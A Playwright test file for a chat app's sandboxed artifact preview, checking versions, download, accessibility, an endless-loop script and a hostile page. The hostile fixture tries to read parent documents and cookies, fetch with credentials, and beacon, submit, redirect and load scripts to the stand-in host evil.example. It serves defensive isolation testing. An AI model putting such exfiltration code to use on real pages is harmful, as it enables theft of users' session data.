import { expectAccessible, expectNoSidewaysScroll } from './support/access.ts'
import { command, expect, letGo, test } from './support/chat.ts'
import { reloadPage } from './support/open.ts'
import { watchPolicy } from './support/policy.ts'

const pageSaying = (words: string) => `\`\`\`html
<!doctype html>
<html lang="en">
<head><title>Clock tower</title></head>
<body>
<h1>${words}</h1>
<button onclick="this.textContent = 'pressed'">press</button>
<script>
localStorage.setItem('a', 'kept')
document.body.append(localStorage.getItem('a'))
console.error('an odd clock')
</script>
</body>
</html>
\`\`\``

/** Tries everything a page of a model must not do, and writes down what came of it. */
const HOSTILE = `\`\`\`html
<title>A thief of data</title>
<pre id="out"></pre>
<script>
const out = document.getElementById('out')
const note = (words) => { out.textContent += words + '\\n' }
const attempt = (name, work) => { try { note(name + ' got ' + work()) } catch (error) { note(name + ' refused') } }
note('origin ' + self.origin)
attempt('parent', () => parent.document.title)
attempt('top', () => top.document.title)
attempt('cookie', () => document.cookie)
attempt('frame', () => frameElement.ownerDocument.title)
attempt('open', () => open('https://evil.example/open').closed)
try { top.location = 'https://evil.example/top' } catch {}
new Image().src = 'https://evil.example/picture.png'
navigator.sendBeacon('https://evil.example/beacon', 'x')
const form = document.createElement('form')
form.action = 'https://evil.example/form'
document.body.append(form)
form.submit()
for (const url of ['/api/models', location.href, 'https://evil.example/fetch'])
  fetch(url, { credentials: 'include' }).then(() => note('fetch got'), () => note('fetch refused'))
</script>
<script src="https://evil.example/script.js"></script>
<iframe src="https://evil.example/frame"></iframe>
\`\`\`
`

test.describe('an artifact', () => {
  test('opens beside the chat, follows what is written, has versions, is saved, and is there after a reload', async ({
    page,
    chat,
  }) => {
    const troubles = watchPolicy(page)
    await chat.open()
    await chat.send(`Draw a clock ${command({ text: `Here:\n\n${pageSaying('One')}` })}`)
    const openIt = chat.lastReply.getByRole('button', { name: 'Open beside the chat' })
    await expect(openIt).toBeVisible()
    await expect(chat.stopButton).toHaveCount(0)
    await openIt.click()
    const panel = page.getByRole('region', { name: 'Clock tower' })
    const preview = panel.frameLocator('iframe[title="Preview of Clock tower"]')
    await expect(preview.getByRole('heading')).toHaveText('One')
    await expect(preview.locator('body')).toContainText('kept')
    await preview.getByRole('button', { name: 'press' }).click()
    await expect(preview.getByRole('button')).toHaveText('pressed')
    await expect(panel.getByRole('log')).toHaveText('Error: an odd clock')
    await expectAccessible(page)

    // A page in the frame hands Escape on; the focus goes back to where it came from. Playwright's own key press would wait for an answer
    // from the frame, which is gone by then.
    await preview.locator('body').evaluate((body) => {
      const press = new KeyboardEvent('keydown', { key: 'Escape', bubbles: true })
      setTimeout(() => body.dispatchEvent(press))
    })
    await expect(panel).toHaveCount(0)
    await expect(openIt).toBeFocused()
    await page.keyboard.press('Enter')
    await expect(panel).toBeFocused()

    const another = `Another ${command({ text: `Now:\n\n${pageSaying('Two')}\n\nDone.`, holdAfter: 10 })}`
    await chat.send(another)
    const version = panel.getByRole('status', { name: /^Version/ })
    await expect(version).toHaveText('2/2')
    await expect(panel.getByRole('tab', { name: 'Code' })).toHaveAttribute('aria-selected', 'true')
    await letGo(another)
    await expect(preview.getByRole('heading')).toHaveText('Two')
    await expect(chat.stopButton).toHaveCount(0)

    const [download] = await Promise.all([
      page.waitForEvent('download'),
      panel.getByRole('button', { name: 'Download clock-tower.html' }).click(),
    ])
    expect(download.suggestedFilename()).toBe('clock-tower.html')

    await chat.expectAddress()
    await reloadPage(page)
    await expect(preview.getByRole('heading')).toHaveText('Two')
    await expect(chat.field).toBeFocused()
    await panel.getByRole('button', { name: 'Earlier version' }).click()
    await expect(preview.getByRole('heading')).toHaveText('One')
    await panel.getByRole('tab', { name: 'Preview' }).press('ArrowRight')
    await expect(panel.locator('pre')).toContainText('<h1>One</h1>')

    await page.setViewportSize({ width: 390, height: 844 })
    await expectNoSidewaysScroll(page)
    await page.keyboard.press('Escape')
    await expect(panel).toHaveCount(0)
    await reloadPage(page)
    await expect(openIt).toBeVisible()
    await expect(panel).toHaveCount(0)
    expect(troubles).toEqual([])
  })

  test('that is hostile reaches neither the app, nor the account, nor the network', async ({
    page,
    chat,
  }) => {
    const reached: string[] = []
    await page.context().route(/evil\.example/, (route) => {
      reached.push(route.request().url())
      return route.fulfill({ body: 'evil' })
    })
    await chat.open()
    await chat.send(`Steal. ${command({ text: HOSTILE })}`)
    const openIt = chat.lastReply.getByRole('button', { name: 'Open beside the chat' }).first()
    await openIt.click()
    const panel = page.getByRole('region', { name: 'A thief of data' })
    const out = panel.frameLocator('iframe').locator('#out')
    await expect(out).toContainText('origin null')
    await expect(out).toHaveText(/(fetch refused\s*){3}/)
    await expect(out).toContainText(
      /parent refused\s+top refused\s+cookie refused\s+frame refused\s+open refused/,
    )
    await expect(out).not.toContainText('fetch got')
    await expect(panel.getByRole('log')).toContainText('previews have no network: https://evil.example')
    await expect(page).toHaveURL(/\/chat\/[0-9a-f]{24}$/)
    await chat.expectAddress()

    // A frame may move itself: the app's own policy lets it go nowhere.
    const moves =
      '```html\n<title>Moving on</title><script>location = "https://evil.example/move"</script>\n```'
    await chat.send(`Move. ${command({ text: moves })}`)
    await expect(chat.lastReply).toContainText('Moving on')
    await chat.lastReply.getByRole('button', { name: 'Open beside the chat' }).click()
    await expect(page.getByRole('region', { name: 'Moving on' })).toBeVisible()

    const picture =
      '```svg\n<svg width="20" height="20" onload="alert(1)"><script>alert(2)</script><image href="https://evil.example/i.png"/><circle r="9"/></svg>\n```'
    await chat.send(`Draw. ${command({ text: picture })}`)
    await expect(chat.lastReply).toContainText('circle')
    await chat.lastReply.getByRole('button', { name: 'Open beside the chat' }).click()
    const drawn = page.getByRole('region', { name: 'Picture' }).getByRole('img')
    await expect.poll(() => drawn.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0)
    expect(page.context().pages()).toHaveLength(1)
    expect(reached).toEqual([])
  })

  test('in an endless loop leaves the chat as it is', async ({ page, chat }) => {
    await chat.open()
    const loop = '```html\n<title>Round and round</title><p>so</p><script>for (;;) {}</script>\n```'
    await chat.send(`Loop. ${command({ text: loop })}`)
    await chat.lastReply.getByRole('button', { name: 'Open beside the chat' }).click()
    const panel = page.getByRole('region', { name: 'Round and round' })
    await expect(panel.getByRole('log')).toContainText('does not answer')
    await chat.field.fill('Still here')
    await expect(chat.field).toHaveValue('Still here')
    await panel.getByRole('button', { name: 'Stop' }).click()
    await expect(panel.getByRole('button', { name: 'Start the preview' })).toBeFocused()
    await page.keyboard.press('Escape')
    await expect(panel).toHaveCount(0)
    await chat.send(`On. ${command({ text: 'Of course.' })}`)
    await chat.expectReply('Of course.')
  })
})
